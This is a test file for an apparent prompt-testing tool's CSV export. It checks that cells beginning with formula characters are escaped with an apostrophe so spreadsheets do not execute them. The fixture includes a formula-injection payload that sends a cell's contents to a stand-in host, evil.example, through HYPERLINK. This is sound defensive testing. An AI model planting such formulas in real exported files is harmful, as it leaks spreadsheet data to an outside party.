import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { MOCK_OUTPUTS_NOTE } from '@promptgrid/contract';
import { cellKey } from '../lib/results-index';
import type { GridCell, GridData } from './grid-data';
import { gridCsv } from './csv';
import { firstItems, itemAt } from '@promptgrid/test-support/items';

const cell = (output: string | null, error: string | null = null): GridCell => ({
  status: output === null ? 'FAILED' : 'SUCCESS',
  output,
  error,
  seconds: 1,
  inputTokens: 2,
  outputTokens: 3,
});

/** One user prompt and two system prompts whose texts a spreadsheet would run. */
const hostile: GridData = {
  rows: [{ id: 1, name: '@name', content: '-1+2', expected: null }],
  columns: [
    { id: 10, name: '+Terse', model: 'openai - gpt-4.1' },
    { id: 20, name: 'Warm', model: 'openai - gpt-4.1' },
  ],
  cells: new Map([
    [cellKey(1, 10), cell('=HYPERLINK("http://evil.example/?"&A1)\nthen more lines')],
    [cellKey(1, 20), cell(null, '\tERROR')],
  ]),
};

describe('the results CSV', () => {
  it('prefixes every cell a spreadsheet would run as a formula, multi-line outputs included', () => {
    const [, first, second] = firstItems(Papa.parse<string[]>(gridCsv(hostile)).data, 3);
    expect(first.slice(0, 7)).toEqual([
      "'@name",
      "'-1+2",
      '',
      "'+Terse",
      'openai - gpt-4.1',
      'SUCCESS',
      `'=HYPERLINK("http://evil.example/?"&A1)\nthen more lines`,
    ]);
    expect(itemAt(second, 7)).toBe("'\tERROR");
    // Numbers stay numbers.
    expect(first.slice(8, 11)).toEqual(['2', '3', '1']);
  });

  it("starts a mock run's file with a notice column that says so on every row", () => {
    const [header = [], ...rows] = Papa.parse<string[]>(gridCsv({ ...hostile, mock: true })).data;
    expect(header.slice(0, 2)).toEqual(['notice', 'input_name']);
    expect(rows.map((row) => row[0])).toEqual([MOCK_OUTPUTS_NOTE, MOCK_OUTPUTS_NOTE]);
    expect(itemAt(itemAt(Papa.parse<string[]>(gridCsv(hostile)).data, 0), 0)).toBe('input_name');
  });

  it('has a column per variable the rows ran with, empty where a row has none', () => {
    const data: GridData = {
      rows: [
        { id: 1, name: 'Paris', content: 'Hi', expected: null, variables: { city: 'Paris', tone: '=warm' } },
        { id: 2, name: 'Oslo', content: 'Hi', expected: null, variables: { city: 'Oslo' } },
      ],
      columns: [{ id: 10, name: 'Terse', model: 'openai - gpt-4.1' }],
      cells: new Map([
        [cellKey(1, 10), cell('a')],
        [cellKey(2, 10), cell('b')],
      ]),
    };
    const [header, paris, oslo] = firstItems(Papa.parse<string[]>(gridCsv(data)).data, 3);
    expect(header.slice(0, 6)).toEqual([
      'input_name',
      'input',
      'expected_output',
      'variables.city',
      'variables.tone',
      'configuration',
    ]);
    expect(paris.slice(3, 5)).toEqual(['Paris', "'=warm"]);
    expect(oslo.slice(3, 5)).toEqual(['Oslo', '']);
    // Without variables, no such column.
    expect(itemAt(itemAt(Papa.parse<string[]>(gridCsv(hostile)).data, 0), 3)).toBe('configuration');
  });
});
